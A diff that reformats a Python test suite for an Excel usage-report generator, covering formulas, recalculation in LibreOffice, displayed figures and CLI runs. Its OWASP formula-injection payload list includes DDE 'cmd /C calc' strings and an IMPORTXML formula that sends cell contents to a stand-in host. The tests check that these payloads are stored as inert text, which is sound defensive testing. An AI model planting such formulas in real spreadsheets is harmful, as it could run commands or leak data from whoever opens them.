@@ -1,7 +1,6 @@
 """The workbook: structure and styles read back with openpyxl, stored values read without
 recalculation, and formulas recalculated by LibreOffice."""
 
-
 import io
 import math
 import shutil
@@ -19,9 +18,18 @@ from helpers import frame
 
 # OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection)
 OWASP_PAYLOADS = [
-    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-    '=HYPERLINK("http://evil.example","click")', "=IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")",
-    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example","click")',
+    '=IMPORTXML(CONCAT("http://e.example/?",A1),"//a")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
 ]
 
 
@@ -37,18 +45,36 @@ def _report(name):
         return g.build_report(sample, "2025-01")
     if name == "fractional-partial":
         rows = [(f"2026-04-{d:02d}", "a", 10.25) for d in range(1, 31)]
-        rows += [(f"2026-05-{d:02d}", "a", 12.5) for d in range(1, 11)] + [("2026-05-03", "brand_new", 7.0)]
+        rows += [(f"2026-05-{d:02d}", "a", 12.5) for d in range(1, 11)] + [
+            ("2026-05-03", "brand_new", 7.0)
+        ]
         return g.build_report(frame(rows, fetched_at="2026-05-11 09:30"), "2026-05")
     if name == "zero-month":
-        return g.build_report(frame([("2026-04-01", "a", 10.0), ("2026-05-01", "a", 0.0)],
-                                    fetched_at="2026-06-01 00:00"), "2026-05")
+        return g.build_report(
+            frame(
+                [("2026-04-01", "a", 10.0), ("2026-05-01", "a", 0.0)], fetched_at="2026-06-01 00:00"
+            ),
+            "2026-05",
+        )
     if name == "negative-total":
-        rows = [("2026-04-01", "a", 10.0), ("2026-05-02", "refund", -4.0), ("2026-05-03", "search_database", 2.5)]
+        rows = [
+            ("2026-04-01", "a", 10.0),
+            ("2026-05-02", "refund", -4.0),
+            ("2026-05-03", "search_database", 2.5),
+        ]
         return g.build_report(frame(rows, fetched_at="2026-06-01 00:00"), "2026-05")
     raise KeyError(name)
 
 
-REPORTS = ["2026-10", "2026-03", "running", "first-month", "fractional-partial", "zero-month", "negative-total"]
+REPORTS = [
+    "2026-10",
+    "2026-03",
+    "running",
+    "first-month",
+    "fractional-partial",
+    "zero-month",
+    "negative-total",
+]
 
 
 @pytest.fixture(scope="module")
@@ -76,14 +102,26 @@ def _formula_cells(path):
 
 
 def _kv(ws, min_row=1, col=1):
-    return {r[0]: r[col] for r in ws.iter_rows(min_row=min_row, values_only=True) if r[0] is not None}
+    return {
+        r[0]: r[col] for r in ws.iter_rows(min_row=min_row, values_only=True) if r[0] is not None
+    }
 
 
 def test_sheets_formulas_and_names(books):
     rep, path = books["2026-10"]
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == SHEETS
-    assert SHEETS == ["Summary", "By operation", "Cost", "Drivers", "Monthly", "Daily", "Anomalies", "Prices", "About"]
+    assert SHEETS == [
+        "Summary",
+        "By operation",
+        "Cost",
+        "Drivers",
+        "Monthly",
+        "Daily",
+        "Anomalies",
+        "Prices",
+        "About",
+    ]
     ws = wb["By operation"]
     n = len(rep.operations)
     total = 5 + n
@@ -92,7 +130,10 @@ def test_sheets_formulas_and_names(books):
     assert "Year ago: October 2025" in heads and "Estimated cost" in heads
     assert ws["B5"].value == "=SUMIFS(DailyCredits,DailyOperation,A5)"
     assert ws["E5"].value == "=B5-D5" and ws["F5"].value == '=IF(D5=0,"n/a",E5/D5)'
-    assert ws["J5"].value == '=IF(ISNUMBER(Prices!$B$5),ROUND(B5*Prices!$B$5*TierMultiplier,2),"unpriced")'
+    assert (
+        ws["J5"].value
+        == '=IF(ISNUMBER(Prices!$B$5),ROUND(B5*Prices!$B$5*TierMultiplier,2),"unpriced")'
+    )
     assert ws[f"B{total}"].value == f"=SUM(B5:B{total - 1})"
     f = rep.formats
     assert ws["B5"].number_format == f.excel_credits == "#,##0"
@@ -101,15 +142,30 @@ def test_sheets_formulas_and_names(books):
     assert ws.freeze_panes == "B5" and ws.print_title_rows == "$4:$4"
     assert ws.page_setup.orientation == "landscape"
     names = set(wb.defined_names)
-    assert {"MonthTotal", "PreviousTotal", "ChangePct", "EstimatedCost", "TopOperation", "TierMultiplier",
-            "YearAgoTotal", "CostChange", "DailyCredits", "DailyOperation", "CheckTieOut"} <= names
-    assert {type(c).__name__ for c in wb["Summary"]._charts} == {"BarChart"} and len(wb["Summary"]._charts) == 2
+    assert {
+        "MonthTotal",
+        "PreviousTotal",
+        "ChangePct",
+        "EstimatedCost",
+        "TopOperation",
+        "TierMultiplier",
+        "YearAgoTotal",
+        "CostChange",
+        "DailyCredits",
+        "DailyOperation",
+        "CheckTieOut",
+    } <= names
+    assert {type(c).__name__ for c in wb["Summary"]._charts} == {"BarChart"} and len(
+        wb["Summary"]._charts
+    ) == 2
     assert [type(c).__name__ for c in ws._charts] == ["DoughnutChart"]
     assert len(wb["Drivers"]._charts) == 1 and len(wb["Cost"]._charts) == 1
     assert len(ws.conditional_formatting) >= 2
     prices = wb["Prices"]
     assert prices["A5"].value == "search_database" and prices["B5"].value == 0.02
-    unpriced = [r for r in prices.iter_rows(min_row=5, values_only=True) if r[0] == "unattributed"][0]
+    unpriced = [r for r in prices.iter_rows(min_row=5, values_only=True) if r[0] == "unattributed"][
+        0
+    ]
     assert unpriced[1] is None and unpriced[2].startswith("unpriced")
     assert wb["Anomalies"]["B5"].value == "search_realtime"
     assert wb["Anomalies"]["A5"].fill.fgColor.rgb.endswith("FDEBD0")
@@ -137,20 +193,37 @@ def test_about_holds_numbers_and_row_heights(books):
     rep, path = books["2026-10"]
     ws = openpyxl.load_workbook(path)["About"]
     about = _kv(ws, 4)
-    assert about["Month total"] == 33441 and ws.cell(row=[r for r in range(4, 40) if ws.cell(r, 1).value == "Month total"][0], column=2).number_format == "#,##0"
+    assert (
+        about["Month total"] == 33441
+        and ws.cell(
+            row=[r for r in range(4, 40) if ws.cell(r, 1).value == "Month total"][0], column=2
+        ).number_format
+        == "#,##0"
+    )
     assert about["Estimated cost, total"] == pytest.approx(816.15)
     assert about["Tier multiplier"] == 1.0
     assert about["Source"] == "sample data (fictional account)"
     assert about["Input checksum (SHA-256)"] == rep.checksum and about["Month complete"] == "yes"
-    wrapped = [r for r in range(4, 40) if ws.cell(r, 2).alignment.wrap_text and len(str(ws.cell(r, 2).value or "")) > 130]
-    assert wrapped and all(ws.row_dimensions[r].height and ws.row_dimensions[r].height >= 30 for r in wrapped)
+    wrapped = [
+        r
+        for r in range(4, 40)
+        if ws.cell(r, 2).alignment.wrap_text and len(str(ws.cell(r, 2).value or "")) > 130
+    ]
+    assert wrapped and all(
+        ws.row_dimensions[r].height and ws.row_dimensions[r].height >= 30 for r in wrapped
+    )
 
 
 def test_summary_kpis_right_aligned_with_signs(books):
     rep, path = books["2026-10"]
     ws = openpyxl.load_workbook(path)["Summary"]
     rows = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(1, 60) if ws.cell(r, 1).value}
-    for label in ("Credits this month", "Change vs previous month", "Change %", "Estimated cost (estimate)"):
+    for label in (
+        "Credits this month",
+        "Change vs previous month",
+        "Change %",
+        "Estimated cost (estimate)",
+    ):
         assert rows[label].alignment.horizontal == "right"
     assert rows["Change vs previous month"].number_format == "+#,##0;-#,##0;0"
     assert rows["Change %"].number_format == "+0.0%;-0.0%;0.0%"
@@ -185,7 +258,11 @@ def test_stored_values_are_the_report_figures(books, name):
         assert got[col["Change"]] == want.change
         assert got[col["Estimated cost"]] == (want.estimated_cost if want.priced else "unpriced")
     total = rows[-1]
-    assert total[0] == "Total" and total[1] == rep.total and total[col["Estimated cost"]] == rep.estimated_cost
+    assert (
+        total[0] == "Total"
+        and total[1] == rep.total
+        and total[col["Estimated cost"]] == rep.estimated_cost
+    )
     assert total[col["Change %"]] == pytest.approx(rep.change_pct)
     if rep.yoy_available:
         yoy = [h for h in heads if str(h).startswith("Year ago")][0]
@@ -197,13 +274,20 @@ def test_stored_values_are_the_report_figures(books, name):
     assert summary["Check: Monthly, By operation and Daily agree"] == "OK"
     if not rep.complete:
         assert summary["Month-end projection (estimate)"] == pytest.approx(rep.projection)
-    cost = list(wb["Cost"].iter_rows(min_row=5, max_row=4 + len(rep.cost_by_operation), values_only=True))
+    cost = list(
+        wb["Cost"].iter_rows(min_row=5, max_row=4 + len(rep.cost_by_operation), values_only=True)
+    )
     assert [r[1] for r in cost] == list(rep.cost_by_operation["operation"])
-    drivers = list(wb["Drivers"].iter_rows(min_row=5, max_row=4 + len(rep.bridge), values_only=True))
+    drivers = list(
+        wb["Drivers"].iter_rows(min_row=5, max_row=4 + len(rep.bridge), values_only=True)
+    )
     assert [r[0] for r in drivers] == list(rep.bridge["label"])
     assert [r[1] for r in drivers] == pytest.approx(list(rep.bridge["value"]))
     assert [r[2] for r in drivers] == pytest.approx(list(rep.bridge["top"]))
-    for got, want in zip(wb["Anomalies"].iter_rows(min_row=5, values_only=True), rep.anomalies.itertuples(index=False)):
+    for got, want in zip(
+        wb["Anomalies"].iter_rows(min_row=5, values_only=True),
+        rep.anomalies.itertuples(index=False),
+    ):
         assert got[1] == want.operation and got[4] == want.excess
         assert got[5] == pytest.approx(want.share_of_change)
 
@@ -215,19 +299,25 @@ def _same(a, b):
 
 
 @pytest.mark.libreoffice
-@pytest.mark.parametrize("name", ["2026-10", "2026-03", "running", "fractional-partial", "zero-month",
-                                  "negative-total"])
+@pytest.mark.parametrize(
+    "name", ["2026-10", "2026-03", "running", "fractional-partial", "zero-month", "negative-total"]
+)
 def test_libreoffice_recalculation_changes_no_stored_value(books, name, tmp_path):
     rep, path = books[name]
     stored = openpyxl.load_workbook(path, data_only=True)
     recalculated = openpyxl.load_workbook(soffice_recalculate(path, tmp_path), data_only=True)
-    changed = [(s, c, f, stored[s][c].value, recalculated[s][c].value) for s, c, f in _formula_cells(path)
-               if not _same(stored[s][c].value, recalculated[s][c].value)]
+    changed = [
+        (s, c, f, stored[s][c].value, recalculated[s][c].value)
+        for s, c, f in _formula_cells(path)
+        if not _same(stored[s][c].value, recalculated[s][c].value)
+    ]
     assert not changed, changed[:5]
     for ws in recalculated:
         for row in ws.iter_rows(values_only=True):
             for v in row:
-                assert not (isinstance(v, str) and v.startswith("#") and v.endswith(("!", "?", "A"))), v
+                assert not (
+                    isinstance(v, str) and v.startswith("#") and v.endswith(("!", "?", "A"))
+                ), v
 
 
 def _rewrite_entry(path, target, name, fix):
@@ -251,10 +341,13 @@ def test_recalculation_really_recalculates(books, tmp_path):
         start = body.index(marker)
         v0 = body.index(b"<v>", start)
         v1 = body.index(b"</v>", v0)
-        return body[:v0] + b"<v>12345</v>" + body[v1 + 4:]
+        return body[:v0] + b"<v>12345</v>" + body[v1 + 4 :]
 
     _rewrite_entry(path, wrong, f"xl/worksheets/sheet{index}.xml", fix)
-    assert openpyxl.load_workbook(wrong, data_only=True)["By operation"][f"B{total_row}"].value == 12345
+    assert (
+        openpyxl.load_workbook(wrong, data_only=True)["By operation"][f"B{total_row}"].value
+        == 12345
+    )
     back = openpyxl.load_workbook(soffice_recalculate(wrong, tmp_path), data_only=True)
     assert back["By operation"][f"B{total_row}"].value == rep.total
 
@@ -291,7 +384,9 @@ def test_editing_a_price_recalculates_the_costs(books, tmp_path):
     ws = back["By operation"]
     heads = [c.value for c in ws[4]]
     cost = heads.index("Estimated cost")
-    by_op = {r[0]: r for r in ws.iter_rows(min_row=5, max_row=5 + len(rep.operations), values_only=True)}
+    by_op = {
+        r[0]: r for r in ws.iter_rows(min_row=5, max_row=5 + len(rep.operations), values_only=True)
+    }
     assert by_op["phone_find"][cost] == 254.5  # ROUND(509 × 0.5, 2)
     assert by_op["unattributed"][cost] == 5.5  # priced now: 550 × 0.01
     assert by_op["Total"][cost] == pytest.approx(rep.estimated_cost - 203.6 + 254.5 + 5.5)
@@ -309,9 +404,22 @@ def _displayed(path, workdir):
     out = workdir / f"csv-{uuid.uuid4().hex}"
     out.mkdir()
     # CSV filter options: comma, double quote, UTF-8, from line 1, ..., "save as shown", all sheets (-1)
-    subprocess.run([exe, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
-                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,true,false,false,-1",
-                    "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=180)
+    subprocess.run(
+        [
+            exe,
+            "--headless",
+            "--norestore",
+            f"-env:UserInstallation={profile.as_uri()}",
+            "--convert-to",
+            "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,true,false,false,-1",
+            "--outdir",
+            str(out),
+            str(path),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
     sheets = {}
     for name in SHEETS:
         f = out / f"{path.stem}-{name}.csv"
@@ -335,13 +443,19 @@ def test_displayed_figures_equal_the_formatters_used_by_pdf_and_email(books, nam
         assert row[col["Share"]] == f.share(want.share_display)
         assert row[col["Change"]] == f.change(want.change)
         assert row[col["Change %"]] == f.signed_pct(want.change_pct)
-        assert row[col["Estimated cost"]] == (f.money(want.estimated_cost) if want.priced else "unpriced")
-        assert row[col["Cost change"]] == (f.money_change(want.cost_change) if want.priced else "unpriced")
+        assert row[col["Estimated cost"]] == (
+            f.money(want.estimated_cost) if want.priced else "unpriced"
+        )
+        assert row[col["Cost change"]] == (
+            f.money_change(want.cost_change) if want.priced else "unpriced"
+        )
     total = ops[4 + len(rep.operations)]
     assert total[:3] == ["Total", f.credits(rep.total), "100.0%"]
     assert total[col["Estimated cost"]] == f.money(rep.estimated_cost)
     summary = {r[0]: r[1] for r in shown["Summary"] if r and r[0]}
-    assert summary["Credits this month" if rep.complete else "Credits so far"] == f.credits(rep.total)
+    assert summary["Credits this month" if rep.complete else "Credits so far"] == f.credits(
+        rep.total
+    )
     assert summary["Change vs previous month"] == f.change(rep.change)
     assert summary["Change %"] == f.signed_pct(rep.change_pct)
     assert summary["Estimated cost (estimate)"] == f.money(rep.estimated_cost)
@@ -354,7 +468,9 @@ def test_displayed_figures_equal_the_formatters_used_by_pdf_and_email(books, nam
     for row, want in zip(cost[4:], rep.cost_by_operation.itertuples(index=False)):
         assert row[1] == want.operation
         if want.priced:
-            assert row[2] == f.money(want.estimated_cost) and row[3] == f.share(want.cost_share_display)
+            assert row[2] == f.money(want.estimated_cost) and row[3] == f.share(
+                want.cost_share_display
+            )
     for row, want in zip(shown["Anomalies"][4:], rep.anomalies.itertuples(index=False)):
         assert row[4] == f.credits(want.excess)
     # the narrative's figures are the displayed ones
@@ -371,9 +487,18 @@ def test_partial_month_and_new_operation_recalculate(books, tmp_path):
     back = openpyxl.load_workbook(soffice_recalculate(path, tmp_path), data_only=True)
     ws = back["By operation"]
     heads = [c.value for c in ws[4]]
-    assert heads[1:5] == ["Credits so far", "Share", "Previous: April 2026, days 1–10", "Credits, days 1–10"]
+    assert heads[1:5] == [
+        "Credits so far",
+        "Share",
+        "Previous: April 2026, days 1–10",
+        "Credits, days 1–10",
+    ]
     by_op = {r[0]: r for r in ws.iter_rows(min_row=5, max_row=7, values_only=True)}
-    assert by_op["a"][3] == 102.5 and by_op["a"][4] == 125.0 and by_op["a"][6] == pytest.approx(22.5 / 102.5)
+    assert (
+        by_op["a"][3] == 102.5
+        and by_op["a"][4] == 125.0
+        and by_op["a"][6] == pytest.approx(22.5 / 102.5)
+    )
     assert by_op["brand_new"][6] == "n/a"
     assert by_op["Total"][5] == pytest.approx(29.5)
     summary = _kv(back["Summary"], 4)
@@ -404,24 +529,35 @@ def test_formula_injection_is_stored_as_text(tmp_path):
     assert seen == set(OWASP_PAYLOADS)
     # the names feed formulas only as cell references, and exact matches (no SUMIFS patterns)
     ws = wb["By operation"]
-    assert all("SUMPRODUCT((DailyOperation=A" in ws.cell(r, 2).value for r in range(5, 5 + len(OWASP_PAYLOADS)))
+    assert all(
+        "SUMPRODUCT((DailyOperation=A" in ws.cell(r, 2).value
+        for r in range(5, 5 + len(OWASP_PAYLOADS))
+    )
     export = tmp_path / "tidy.xlsx"
     g.write_usage_xlsx(usage, export)
     ws = openpyxl.load_workbook(export)["Usage"]
     cells = [c for row in ws.iter_rows(min_row=3) for c in row if c.column == 3]
-    assert {c.value for c in cells} == set(OWASP_PAYLOADS) and all(c.data_type == "s" for c in cells)
+    assert {c.value for c in cells} == set(OWASP_PAYLOADS) and all(
+        c.data_type == "s" for c in cells
+    )
     assert all(c.quotePrefix for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r")))
 
 
 @pytest.mark.libreoffice
 def test_injection_payloads_stay_text_in_libreoffice(tmp_path):
-    rows = [("2026-05-01", p, 1.0) for p in OWASP_PAYLOADS] + [("2026-05-02", "a*b?~c", 2.0), ("2026-05-02", "a", 3.0)]
+    rows = [("2026-05-01", p, 1.0) for p in OWASP_PAYLOADS] + [
+        ("2026-05-02", "a*b?~c", 2.0),
+        ("2026-05-02", "a", 3.0),
+    ]
     usage = frame(rows, fetched_at="2026-06-01 00:00")
     path = tmp_path / "inject.xlsx"
     g.write_excel_report(usage, path, month="2026-05")
     recalculated = soffice_recalculate(path, tmp_path)
     ws = openpyxl.load_workbook(recalculated, data_only=True)["By operation"]
-    got = {r[0]: r[1] for r in ws.iter_rows(min_row=5, max_row=4 + len(OWASP_PAYLOADS) + 2, values_only=True)}
+    got = {
+        r[0]: r[1]
+        for r in ws.iter_rows(min_row=5, max_row=4 + len(OWASP_PAYLOADS) + 2, values_only=True)
+    }
     assert set(got) == set(OWASP_PAYLOADS) | {"a*b?~c", "a"}
     # every name matched its own rows only: wildcards and operators are not patterns
     assert all(got[p] == 1.0 for p in OWASP_PAYLOADS) and got["a*b?~c"] == 2.0 and got["a"] == 3.0
@@ -448,12 +584,23 @@ def test_cli_report_sample_xlsx(tmp_path):
     assert out.returncode == 0, out.stderr
     wb = openpyxl.load_workbook(tmp_path / "x.xlsx", data_only=True)
     assert "October 2026" in wb["Summary"]["A1"].value
-    assert len(openpyxl.load_workbook(tmp_path / "x.xlsx")["Monthly"]["A"]) - 4 == 22  # 24 asked, data since 2025-01
+    assert (
+        len(openpyxl.load_workbook(tmp_path / "x.xlsx")["Monthly"]["A"]) - 4 == 22
+    )  # 24 asked, data since 2025-01
 
 
 def test_cli_report_api_xlsx(token_env, tmp_path):
-    out = run_cli("report", "--month", "2026-05", "--history", "3", "--timezone", "Europe/Kyiv",
-                  "--xlsx", str(tmp_path / "api.xlsx"))
+    out = run_cli(
+        "report",
+        "--month",
+        "2026-05",
+        "--history",
+        "3",
+        "--timezone",
+        "Europe/Kyiv",
+        "--xlsx",
+        str(tmp_path / "api.xlsx"),
+    )
     assert out.returncode == 0, out.stderr
     wb = openpyxl.load_workbook(tmp_path / "api.xlsx", data_only=True)
     values = {r[0]: r[1] for r in wb["By operation"].iter_rows(min_row=5, values_only=True)}
@@ -463,13 +610,19 @@ def test_cli_report_api_xlsx(token_env, tmp_path):
     # the fetch reached back a year, so year-over-year is there although --history is 3
     summary = _kv(wb["Summary"], 4)
     assert summary["Same month last year (May 2025)"] == 310.0 + 77.5
-    assert [r[0] for r in wb["Monthly"].iter_rows(min_row=5, values_only=True) if r[0]] == ["2026-03", "2026-04", "2026-05"]
+    assert [r[0] for r in wb["Monthly"].iter_rows(min_row=5, values_only=True) if r[0]] == [
+        "2026-03",
+        "2026-04",
+        "2026-05",
+    ]
 
 
 def test_theme_template_override(tmp_path, sample):
     folder = tmp_path / "tpl"
     folder.mkdir()
-    (folder / "theme.toml").write_text('[text]\ntitle = "ACME spend"\n[formats]\ncredits = "#,##0.0"\n')
+    (folder / "theme.toml").write_text(
+        '[text]\ntitle = "ACME spend"\n[formats]\ncredits = "#,##0.0"\n'
+    )
     path = tmp_path / "t.xlsx"
     g.write_excel_report(sample, path, month="2026-10", template=folder)
     wb = openpyxl.load_workbook(path)
@@ -488,7 +641,11 @@ def test_tidy_export_reads_back_in_libreoffice(tmp_path, sample):
     path = tmp_path / "tidy.xlsx"
     g.write_usage_xlsx(rows, path)
     back = soffice_recalculate(path, tmp_path)
-    got = list(openpyxl.load_workbook(back, data_only=True)["Usage"].iter_rows(min_row=3, max_row=302, max_col=4, values_only=True))
+    got = list(
+        openpyxl.load_workbook(back, data_only=True)["Usage"].iter_rows(
+            min_row=3, max_row=302, max_col=4, values_only=True
+        )
+    )
     assert [r[2] for r in got][5:7] == ["=1+1", "a<b & _x0007_bell"]
     assert [r[3] for r in got] == rows["credits"].tolist()
     assert got[0][0] == rows["period_start"].iloc[0].tz_localize(None).to_pydatetime()
@@ -500,7 +657,17 @@ def test_cli_report_current_month_is_partial(token_env, tmp_path):
 
     today = dt.datetime.now(dt.timezone.utc).date()
     month = f"{today:%Y-%m}"
-    out = run_cli("report", "--month", month, "--history", "2", "--timezone", "UTC", "--xlsx", str(tmp_path / "p.xlsx"))
+    out = run_cli(
+        "report",
+        "--month",
+        month,
+        "--history",
+        "2",
+        "--timezone",
+        "UTC",
+        "--xlsx",
+        str(tmp_path / "p.xlsx"),
+    )
     if today.day == 1:  # no complete day of this month yet
         assert out.returncode == 2 and "no complete day" in out.stderr
         return
@@ -509,7 +676,9 @@ def test_cli_report_current_month_is_partial(token_env, tmp_path):
     wb = openpyxl.load_workbook(tmp_path / "p.xlsx", data_only=True)
     summary = {r[0]: r for r in wb["Summary"].iter_rows(min_row=4, values_only=True) if r[0]}
     elapsed = today.day - 1
-    assert summary["Change vs previous month"][2].startswith(f"like for like: {month} days 1-{elapsed}")
+    assert summary["Change vs previous month"][2].startswith(
+        f"like for like: {month} days 1-{elapsed}"
+    )
     # 12.5 credits a day in the local API: the projection is the whole month at that rate
     import calendar
 
